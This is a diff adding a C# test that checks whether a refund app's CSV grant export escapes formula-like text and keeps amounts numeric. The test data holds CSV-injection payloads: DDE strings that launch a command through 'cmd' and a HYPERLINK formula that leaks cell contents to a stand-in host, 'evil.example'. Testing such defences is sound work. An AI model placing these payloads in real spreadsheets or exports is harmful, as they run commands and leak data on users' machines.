@@ -219,6 +219,47 @@ public abstract class EmpowermentTests(RibaltaApp app)
     }
 
     [Fact]
+    public async Task The_export_writes_reasons_that_look_like_formulas_as_text_and_amounts_as_numbers()
+    {
+        var (manager, option) = await RefundEnvelopeAsync(50, 5000, 5000);
+        var (agent, _) = await NewAgentAsync();
+        var caseId = await CaseAsync(agent);
+        string[] reasons =
+        [
+            "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click here\")", "@SUM(1+9)*cmd|' /C calc'!A0",
+            "+1+1", "-2+3+cmd|' /C calc'!A0", "=1+1, then \"quoted\"", "＝1+1", "Rimborso; =1+1",
+        ];
+        var ids = new List<long>();
+        foreach (var reason in reasons)
+        {
+            var granted = await ResolveAsync(agent, caseId, option.Id, 1.50m, reason: reason);
+            Assert.Equal(HttpStatusCode.Created, granted.StatusCode);
+            ids.Add((await granted.Content.ReadFromJsonAsync<ResolutionDto>(Api.Json))!.Grants[0].Id);
+        }
+
+        Assert.Equal(HttpStatusCode.OK, (await manager.PostAsJsonAsync($"/api/v1/grants/{ids[0]}/reverse", new ReverseRequest("=HYPERLINK(\"http://evil.example\")"), Api.Json)).StatusCode);
+
+        var export = await manager.GetAsync("/api/v1/grants/export", HttpCompletionOption.ResponseHeadersRead);
+        Assert.Equal(HttpStatusCode.OK, export.StatusCode);
+
+        // Streamed as it is read: no length known up front, as a file built in memory would have.
+        Assert.Null(export.Content.Headers.ContentLength);
+        Assert.Equal("attachment", export.Content.Headers.ContentDisposition?.DispositionType);
+        var bytes = await export.Content.ReadAsByteArrayAsync();
+        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
+        var rows = Ribalta.Tests.Unit.CsvWriterTests.Parse(System.Text.Encoding.UTF8.GetString(bytes[3..]));
+        Assert.Equal(["Id", "GrantedAt", "CaseId", "CustomerId", "Option", "Kind", "Amount", "Currency", "Quantity", "GrantedBy", "GrantedById", "Reason", "ReversedAt", "ReversalReason"], rows[0]);
+        for (var i = 0; i < reasons.Length; i++)
+        {
+            var row = rows.Single(r => r[0] == ids[i].ToString(System.Globalization.CultureInfo.InvariantCulture));
+            Assert.Equal(reasons[i] == "Rimborso; =1+1" ? "Rimborso;' =1+1" : "'" + reasons[i], row[11]);
+            Assert.Equal(1.50m, decimal.Parse(row[6], System.Globalization.CultureInfo.InvariantCulture));
+        }
+
+        Assert.Equal("'=HYPERLINK(\"http://evil.example\")", rows.Single(r => r[0] == ids[0].ToString(System.Globalization.CultureInfo.InvariantCulture))[13]);
+    }
+
+    [Fact]
     public async Task A_persons_monthly_budget_spans_their_customers_and_a_reversal_gives_it_back()
     {
         var (manager, option) = await RefundEnvelopeAsync(50, 80, 60);
